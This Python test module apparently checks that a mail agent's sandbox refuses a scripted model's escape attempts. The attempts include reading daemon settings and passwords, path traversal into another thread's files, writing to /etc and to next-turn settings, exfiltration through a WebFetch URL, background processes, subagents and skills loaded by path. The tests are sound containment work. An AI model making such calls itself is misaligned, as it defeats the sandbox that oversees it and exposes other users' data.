"""Attempts by the tools of the CLI itself, and what a later turn would load: in sessions as the daemon runs them, and
again in sessions from which the boundary was taken away."""

import json
import re
from collections.abc import Iterator
from contextlib import contextmanager, nullcontext
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any
from unittest.mock import patch

from claude_agent_sdk import ClaudeAgentOptions

from mailagent.adapters import bubblewrap, claude
from mailagent.core.policy import HOME, WORKSPACE, Policy, arguments
from mailagent.core.values import ThreadId
from tests.fault.escapes.attempt import PASSED
from tests.fault.escapes.world import opened, with_settings
from tests.integration.test_session import THREAD, Blocks, Desk, desk, text

MORE_TOOLS = ("WebFetch", "WebSearch", "Task", "NotebookEdit", "TodoWrite")
OFF = ("CLAUDE_CODE_DISABLE_CLAUDE_MDS", "CLAUDE_CODE_DISABLE_BACKGROUND_TASKS", "PYTHONSAFEPATH")
BUILT = "-the CLI is built so, whatever it is told"
ASKS = "-it would ask the model for itself"
ABSENT = "(Directory|Path) does not exist.*"


@dataclass(frozen=True)
class ByTool:
    """A call of a tool; `PLACE` in its input is where the host keeps everything of this test."""

    name: str
    tries: str
    tool: str
    input: dict[str, Any]
    refused: str
    without: str = "weakened"

    def block(self, place: Path) -> Blocks:
        filled = json.loads(json.dumps(self.input).replace("PLACE", str(place)))
        return [{"type": "tool_use", "id": f"toolu_{self.name}", "name": self.tool, "input": filled}]


MISSING = "File does not exist.*"
READ_ONLY = "EROFS: read-only file system.*"
NO_TOOL = ".*No such tool available: {}.*"
SETTINGS = "PLACE/mailagent.toml"
NEIGHBOUR = "PLACE/threads/neighbour/files"
IN_ITS_OWN = "it went to a /tmp of its own"
CALLS = (
    ByTool("read", "Reads the daemon's settings by Read.", "Read", {"file_path": SETTINGS}, MISSING),
    ByTool(
        "read_of_a_neighbour",
        "Reads another thread's file by Read.",
        "Read",
        {"file_path": f"/srv/work/../../{NEIGHBOUR}/in/data.csv"},
        MISSING,
    ),
    ByTool(
        "bash",
        "Prints the daemon's settings by Bash.",
        "Bash",
        {"command": f"cat {SETTINGS}"},
        ".*No such file or directory",
    ),
    ByTool("glob", "Looks for the daemon's files by Glob.", "Glob", {"pattern": "**/*.toml", "path": "PLACE"}, ABSENT),
    ByTool("grep", "Looks for a password by Grep.", "Grep", {"pattern": "authserv", "path": "PLACE"}, ABSENT),
    ByTool(
        "background",
        "Starts a command that goes on after the turn.",
        "Bash",
        {"command": "echo began", "run_in_background": True},
        ".*unexpected parameter `run_in_background`.*",
    ),
    ByTool("write", "Adds a file to /etc by Write.", "Write", {"file_path": "/etc/planted", "content": "x"}, READ_ONLY),
    ByTool(
        "write_to_a_neighbour",
        "Writes into another thread's answer by Write.",
        "Write",
        {"file_path": f"{NEIGHBOUR}/out/forged.csv", "content": "x"},
        IN_ITS_OWN,
    ),
    ByTool(
        "write_of_settings",
        "Writes settings where the next turn starts.",
        "Write",
        {"file_path": "/srv/.claude/settings.local.json", "content": "{}"},
        READ_ONLY,
    ),
    ByTool(
        "edit",
        "Edits an original by Edit, which asks for a Read first.",
        "Edit",
        {"file_path": "/srv/in/data.csv", "old_string": "name", "new_string": "forged"},
        READ_ONLY,
    ),
    ByTool(
        "web_fetch",
        "Sends data away in the address of a page.",
        "WebFetch",
        {"url": "http://127.0.0.1:9/?data", "prompt": "x"},
        NO_TOOL.format("WebFetch"),
    ),
    ByTool(
        "web_search",
        "Sends data away in a search.",
        "WebSearch",
        {"query": "data"},
        NO_TOOL.format("WebSearch"),
        ASKS,
    ),
    ByTool(
        "notebook",
        "Uses a tool that was not offered.",
        "NotebookEdit",
        {"notebook_path": "/srv/work/x.ipynb", "new_source": "x"},
        NO_TOOL.format("NotebookEdit"),
    ),
    ByTool(
        "task",
        "Starts an agent beside itself.",
        "Task",
        {"description": "x", "prompt": "x", "subagent_type": "general-purpose"},
        NO_TOOL.format("Task"),
        ASKS,
    ),
    ByTool(
        "mcp",
        "Calls a server that was never named.",
        "mcp__planted__run",
        {},
        NO_TOOL.format("mcp__planted__run"),
        BUILT,
    ),
    ByTool(
        "skill_of_the_cli",
        "Uses a skill that was not offered.",
        "Skill",
        {"skill": "init"},
        ".*not in this session's skills allowlist.*",
    ),
    ByTool(
        "skill_by_a_path",
        "Loads a skill out of its workspace by a path.",
        "Skill",
        {"skill": "mailagent:../../../srv/work/planted"},
        ".*Unknown skill.*",
        BUILT,
    ),
)
READ_FIRST: Blocks = [
    {"type": "tool_use", "id": "toolu_first", "name": "Read", "input": {"file_path": "/srv/in/data.csv"}}
]


class Weak(claude.ClaudeAgent):
    """The same sessions, but all that the CLI offers is on and all that it finds is loaded."""

    def _options(self, *args: Any, **kwargs: Any) -> ClaudeAgentOptions:
        return replace(
            super()._options(*args, **kwargs),
            tools=[*claude.TOOLS, *MORE_TOOLS],
            setting_sources=["user", "project", "local"],
            skills="all",
            strict_mcp_config=False,
            verbatim_prompts=False,
            settings=json.dumps({**claude.SETTINGS, "enableAllProjectMcpServers": True}),
        )


@contextmanager
def weakened(at: Desk, place: Path) -> Iterator[None]:
    """Sandboxes that show the host's `place`, may write all that they show, keep their home, look for programs in the
    workspace, and load what they find."""

    def start(policy: Policy, etc: str) -> list[str]:
        words = ["--bind" if word == "--ro-bind" else word for word in arguments(policy, etc)]
        for name in OFF:
            here = words.index(name) if name in words else -1
            words = words if here < 0 else words[: here - 1] + words[here + 2 :]
        path = words[words.index("PATH") + 1]
        return [
            *(*words, "--bind", str(place), str(place), "--bind", str(place / "home"), HOME),
            *("--setenv", "PATH", f"{WORKSPACE}/work/bin:{path}"),
        ]

    (place / "home").mkdir()
    strong = at.agent
    sandbox = strong._settings.sandbox.model_copy(
        update={"memory_mb": 1 << 30}
    )  # the home on disk counts as one in memory
    at.agent = with_settings(strong, sandbox=sandbox)
    at.agent.__class__ = Weak
    with patch.object(bubblewrap, "arguments", start):
        yield
    at.agent = strong


async def by_tools(place: Path, *, weak: bool) -> dict[str, str]:
    """What each call gave back; the calls that are not shown are left out of a weak session."""
    calls = [call for call in CALLS if not (weak and call.without.startswith("-"))]
    replay = [READ_FIRST, *(call.block(place) for call in calls), text("ok")]
    async with desk(place, replay) as at:
        for thread in (THREAD, ThreadId("neighbour")):
            workspace = await opened(at, thread)
            await at.workspaces.add(workspace, [("data.csv", b"name;x\n")])
            if weak:
                Path(workspace.path, "in", "data.csv").chmod(0o600)
        (place / "mailagent.toml").write_text('authserv = "mx.example.org"\n')
        with weakened(at, place) if weak else nullcontext():
            await at.turn("hello")
        results = dict(_results(at.model.requests[-1][1]))
    if not (place / "threads" / "neighbour" / "files" / "out" / "forged.csv").exists():
        results["write_to_a_neighbour"] = IN_ITS_OWN
    return {call.name: _end(call.refused, results[call.name]) for call in calls}


def _results(request: dict[str, Any]) -> Iterator[tuple[str, str]]:
    """What each call gave back, by its id."""
    for message in request["messages"]:
        for block in message["content"] if isinstance(message["content"], list) else []:
            if block.get("type") == "tool_result":
                content = block["content"]
                yield (
                    block["tool_use_id"].removeprefix("toolu_"),
                    content if isinstance(content, str) else json.dumps(content),
                )


def _end(refused: str, words: str) -> str:
    return words if re.fullmatch(refused, words, re.DOTALL) else f"{PASSED}{words}"
